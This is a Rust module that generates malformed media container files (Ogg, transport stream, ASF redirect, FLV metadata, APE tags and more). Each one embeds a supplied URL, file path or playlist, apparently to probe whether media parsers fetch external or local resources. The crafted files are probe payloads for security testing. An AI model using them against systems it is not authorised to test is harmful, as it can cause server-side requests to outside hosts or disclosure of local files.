//! Containers of which there is one here each.

use super::{Bait, Tried, texts};

/// All of them.
pub fn files(bait: &Bait) -> Vec<Tried> {
    let (media, url) = (bait.media.to_string_lossy(), &bait.url);
    let playlist = texts::playlist(bait);
    vec![
        ("ogg-skeleton", {
            let mut head = b"fishead\0\x04\0\0\0".to_vec();
            head.resize(80, 0);
            let bone = format!("fisbone\0\x2c\0\0\0Content-Type: audio/x\r\nName: {media}\r\n");
            [page(0, &head), page(1, bone.as_bytes()), page(2, &playlist)].concat()
        }),
        ("ogg-picture", {
            let comment = format!("METADATA_BLOCK_PICTURE=AAAAAwAAAAMtLT4=,{url}");
            let mut comments = b"OpusTags\x01\0\0\0x\x01\0\0\0".to_vec();
            comments.extend((comment.len() as u32).to_le_bytes());
            comments.extend(comment.as_bytes());
            let head = b"OpusHead\x01\x01\0\0\x80\xbb\0\0\0\0\0";
            [page(0, head), page(1, &comments), page(2, &playlist)].concat()
        }),
        ("transport-stream", {
            let mut packets = Vec::new();
            for piece in playlist.chunks(184) {
                packets.extend(b"\x47\x40\0\x10");
                packets.extend(piece);
                packets.resize(packets.len().next_multiple_of(188), 0xff);
            }
            packets.repeat(8)
        }),
        ("program-stream-map", {
            let pack = b"\0\0\x01\xba\x44\0\x04\0\x04\x01\0\0\x03\xf8";
            let map = [b"\0\0\x01\xbc", &(media.len() as u16).to_be_bytes()[..]].concat();
            let private = [b"\0\0\x01\xbd", &(playlist.len() as u16).to_be_bytes()[..]].concat();
            [pack, &map[..], media.as_bytes(), &private, &playlist].concat()
        }),
        ("nsv", {
            [
                b"NSVf\0\0\0\x40\0\0\x10\0",
                url.as_bytes(),
                b"NSVs",
                &playlist,
            ]
            .concat()
        }),
        ("real-media", {
            [b".RMF\0\0\0\x12\0\x01\0\0\0\0\0\0\0\x06", url.as_bytes()].concat()
        }),
        (
            "real-sound",
            [b".ra\xfd\0\x04\0\0", media.as_bytes()].concat(),
        ),
        ("asf-redirect", {
            let head = b"\x30\x26\xb2\x75\x8e\x66\xcf\x11\xa6\xd9\0\xaa\0\x62\xce\x6c";
            // A script command of the kind URL.
            let command = b"\x30\x1a\xfb\x1e\x62\x0b\xd0\x11\xa3\x9b\0\xa0\xc9\x03\x48\xf6";
            let count = b"\x80\0\0\0\0\0\0\0\x01\0\0\0\x01\x02";
            [
                &head[..],
                count,
                command,
                b"\x60\0\0\0\0\0\0\0",
                url.as_bytes(),
            ]
            .concat()
        }),
        ("flv-script", {
            let name = format!(
                "\x02\0\x0aonMetaData\x08\0\0\0\x01\0\x03url\x02\0{}{url}",
                url.len() as u8 as char
            );
            let length = (name.len() as u32).to_be_bytes();
            let head = [
                &b"FLV\x01\x05\0\0\0\x09\0\0\0\0\x12"[..],
                &length[1..],
                &[0; 7],
            ]
            .concat();
            [head, name.into_bytes()].concat()
        }),
        ("mxf-external-essence", {
            [
                &b"\x06\x0e\x2b\x34\x02\x05\x01\x01\x0d\x01\x02\x01\x01\x02\x04\0\x83\0\0\x40"[..],
                media.as_bytes(),
            ]
            .concat()
        }),
        ("caf-named", {
            [
                &b"caff\0\x01\0\0desc\0\0\0\0\0\0\0\x20"[..],
                media.as_bytes(),
            ]
            .concat()
        }),
        ("wave-64", {
            [
                &b"riff\x2e\x91\xcf\x11\xa5\xd6\x28\xdb\x04\xc1\0\0"[..],
                &playlist,
            ]
            .concat()
        }),
        ("matroska-of-text", {
            [&b"\x1a\x45\xdf\xa3\x9f\x42\x82\x88matroska"[..], &playlist].concat()
        }),
        ("ape-tag", {
            let item = format!("Cover Art (Front)\0{url}");
            let sound = b"\xff\xfb\x90\0".repeat(100);
            let length = (item.len() as u32 + 8).to_le_bytes();
            let value = (url.len() as u32).to_le_bytes();
            let foot = [
                &b"APETAGEX\xd0\x07\0\0"[..],
                &length,
                b"\x01\0\0\0\0\0\0\0",
                &[0; 8],
            ]
            .concat();
            [
                sound,
                value.to_vec(),
                b"\x04\0\0\0".to_vec(),
                item.into_bytes(),
                foot,
            ]
            .concat()
        }),
        ("xing", {
            let head = [
                &b"\xff\xfb\x90\x64"[..],
                &[0; 32],
                b"Xing\0\0\0\x0f",
                &playlist,
            ]
            .concat();
            [head, b"\xff\xfb\x90\0".repeat(100)].concat()
        }),
        ("aac-of-text", {
            let frame = [
                &b"\xff\xf1\x50\x80\x2e\x7f\xfc"[..],
                &playlist[..100.min(playlist.len())],
            ]
            .concat();
            frame.repeat(4)
        }),
    ]
}

/// A page of Ogg, whose sum is wrong.
fn page(number: u8, packet: &[u8]) -> Vec<u8> {
    let mut page = b"OggS\0".to_vec();
    page.push(if number == 0 { 2 } else { 0 });
    page.extend([0; 8]);
    page.extend(b"\x01\0\0\0");
    page.extend([number, 0, 0, 0, 0, 0, 0, 0]);
    let lacing = [
        vec![255; packet.len() / 255],
        vec![(packet.len() % 255) as u8],
    ]
    .concat();
    page.push(lacing.len() as u8);
    page.extend(lacing);
    page.extend(packet);
    page
}
